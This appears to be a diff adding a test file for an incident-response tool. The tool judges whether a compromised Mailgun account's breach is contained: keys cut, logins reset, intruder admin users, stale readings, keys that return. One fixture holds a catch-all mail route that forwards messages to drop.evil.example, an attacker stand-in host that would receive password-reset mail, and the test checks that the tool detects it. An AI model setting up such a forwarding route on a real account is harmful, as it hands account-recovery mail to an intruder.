@@ -1,0 +1,192 @@
+"""Is it over? The four answers, from readings made by hand; and that the claim goes when its ground goes."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from datetime import timedelta
+from typing import Any
+
+from tests.support.situations import NOW, OWN, Story, key, situation, use
+from workbench.core.clock import iso
+from workbench.domain.model.inventory import Gap, UserItem
+from workbench.domain.model.plan import Effect, EffectKind, Place
+from workbench.domain.model.sending_volume import Hour, Volume
+from workbench.domain.model.situation import Situation
+from workbench.domain.runbook.claims import Answer, Coverage, Reading, aged, claim
+from workbench.domain.runbook.containment_state import LASTS, Over, containment
+from workbench.domain.runbook.sending import sending
+from workbench.mailgun.endpoints import Region
+from workbench.mailgun.models import Route, User
+
+US = Place(Region.US)
+LOGIN = "app@mg.acme.example"
+
+
+def _volume(excess: float = 0.0, *, since: Any = None) -> Volume:
+    return Volume((Hour(NOW, 40),), 40.0, 60.0, None, excess, NOW, measured_from=since)
+
+
+def _cut_story() -> Story:
+    """Cut the one old key and the one login, and read who sends after it."""
+    old = key("prod")
+    story = Story()
+    story.verified(
+        [
+            Effect(EffectKind.KEY_DELETE, old.id, US),
+            Effect(EffectKind.LOGIN_RESET, LOGIN, US, {"domain": "mg.acme.example"}),
+            Effect(EffectKind.KEY_CREATE, OWN, US, {"replaces": OWN, "own": True}),
+        ],
+        **{OWN: {"key_id": OWN}},
+    )
+    return story.use()
+
+
+def _over(story: Story | None = None, **more: Any) -> Situation:
+    found = situation(
+        keys=more.pop("keys", ()), logins=[LOGIN], state=(story or _cut_story()).state(), **more
+    )
+    found.volume = _volume()
+    return found
+
+
+def _stranger(found: Situation) -> None:
+    owner = User(id="u1", email="ada@acme.example", name="Ada", role="admin", is_master=True)
+    stranger = User(id="u2", email="x@evil.example", name="X", role="admin")
+    found.inventory.users = {u.id: UserItem(u, US) for u in (owner, stranger)}
+
+
+def test_with_everything_shut_and_read_it_is_contained_as_of_the_oldest_reading() -> None:
+    found = containment(_over())
+    assert found.over is Over.CONTAINED, found.words
+    assert found.words.startswith("contained since 21 Nov 14:00Z, as of 21 Nov 14:00Z")
+    assert found.claim.answer is Answer.YES
+
+
+def test_nothing_cut_is_not_contained_and_counts_what_is_open() -> None:
+    found = situation(keys=[key("prod"), key("old")], logins=[LOGIN])
+    said = containment(found)
+    assert said.over is Over.NOT_CONTAINED
+    assert "3 API key(s) from before" in said.words
+
+
+def test_a_stranger_in_the_panel_is_cut_but_open() -> None:
+    found = _over()
+    _stranger(found)
+    said = containment(found)
+    assert said.over is Over.OPEN
+    assert said.words.startswith("cut, but open through panel user ")
+    assert "evil.example" in said.words
+
+
+def test_what_could_not_be_read_is_no_all_clear() -> None:
+    for name in ("keys", "users", "domains", "logins", "subaccounts"):
+        found = _over()
+        found.inventory.gaps[name] = Gap(name, None, "403")
+        said = containment(found)
+        assert said.over is Over.OPEN, name
+        assert said.claim.answer is Answer.CANNOT_TELL
+        assert f"{name}: not readable, 403" in said.words
+
+
+def test_what_was_never_asked_is_no_all_clear() -> None:
+    found = _over()
+    del found.inventory.read_at["users"]
+    assert "users: not asked" in containment(found).words
+    found = _over(Story().verified([Effect(EffectKind.KEY_DELETE, "prod-id", US)]))
+    assert "who sends: not asked, not since the last cut" in containment(found).words
+    found = _over()
+    found.volume = None
+    assert containment(found).over is Over.OPEN
+
+
+def test_a_reading_grown_stale_takes_the_claim_with_it() -> None:
+    found = _over()
+    assert containment(found).contained
+    later = replace(found, now=NOW + LASTS + timedelta(seconds=1), over=None)
+    assert containment(later).over is Over.OPEN
+    assert "out of date" in containment(later).words
+
+
+def test_a_key_that_came_back_is_said_with_whom_it_came_through() -> None:
+    story = _cut_story().add("contained")
+    story.at = NOW + timedelta(minutes=3)
+    for name in ("a", "b"):
+        story.add(
+            "alarm.raised",
+            id=f"keys:{name}",
+            kind="keys",
+            target=f"{name}-id",
+            text=f"API key “{name}” appeared",
+            through="x@evil.example",
+        )
+    story.use()
+    found = _over(story, keys=[key("a"), key("b")])
+    found.now = story.at
+    found.inventory.read_at = dict.fromkeys(found.inventory.read_at, story.at)
+    found.state.baseline = {"keys": [OWN]}
+    _stranger(found)
+    said = containment(found)
+    assert said.over is Over.BACK
+    assert "was contained until 21 Nov 14:03Z: came back through" in said.words
+    assert "came back 2 × through panel user x@evil.example" in said.words
+    assert said.ways[0].used
+
+
+def test_an_old_key_kept_for_its_hand_over_is_a_way_with_its_time_left() -> None:
+    old = key("prod")
+    mint = Effect(EffectKind.KEY_CREATE, old.id, US, {"replaces": old.id, "cut": "first"})
+    story = _cut_story()
+    story.verified([mint]).use()
+    story.add(
+        "timer",
+        id=f"hand-over:key:{old.id}",
+        kind="hand-over",
+        subject=f"key:{old.id}",
+        text="t",
+        due=iso(NOW + timedelta(minutes=29, seconds=30)),
+    )
+    # The same key is deleted in the story of the cut: here it waits.
+    state = story.state()
+    state.effects = {i: r for i, r in state.effects.items() if r.effect.kind is not EffectKind.KEY_DELETE}
+    found = _over(keys=[old])
+    found.state, found.over = state, None
+    said = containment(found)
+    assert said.over is Over.OPEN
+    assert "kept for its hand-over (29 min left)" in said.words
+
+
+def test_a_route_that_copies_password_mail_is_a_way_until_it_is_called_ours() -> None:
+    found = _over()
+    user = User(id="u1", email="ada@mg.acme.example", name="Ada", role="admin", is_master=True)
+    found.inventory.users = {"u1": UserItem(user, US)}
+    found.inventory.routes = {
+        "r": Route(id="r", expression="catch_all()", actions=['forward("https://drop.evil.example/in")'])
+    }
+    assert "copies users' password mail to drop.evil.example" in containment(found).words
+
+
+def test_after_a_cut_the_last_abusive_message_is_said_with_its_age_and_no_mean() -> None:
+    story = Story().use(**{"key:prod-id": use("intruder", 1660, last_used=iso(NOW))})
+    story.at = NOW + timedelta(seconds=5)
+    story.verified([Effect(EffectKind.KEY_DELETE, "prod-id", US)])
+    state = story.state()
+    said = sending(_volume(1660.0), state, NOW + timedelta(seconds=40))
+    assert "1,660" not in said.text
+    assert said.text.startswith("last abusive message 14:00:00Z, 40 s ago")
+    assert "not read since the cut" in said.text
+    assert said.tone != "ok"
+    story.at = NOW + timedelta(seconds=50)
+    story.use()
+    after = sending(_volume(0.0, since=NOW), story.state(), NOW + timedelta(minutes=5))
+    assert "no abnormal sending since the cut" in after.text and after.tone == "ok"
+
+
+def test_cannot_tell_is_never_good_and_no_stays_no() -> None:
+    read = Reading("keys", NOW)
+    dark = Reading("users", None, Coverage.NOT_ASKED)
+    assert claim("x", True, [read]).good
+    assert claim("x", True, [read, dark]).answer is Answer.CANNOT_TELL
+    assert not claim("x", True, [read, dark]).good
+    assert claim("x", True, []).answer is Answer.CANNOT_TELL
+    assert claim("x", False, [read, dark]).answer is Answer.NO
+    assert not aged(read, NOW + timedelta(hours=1), timedelta(minutes=1)).answered
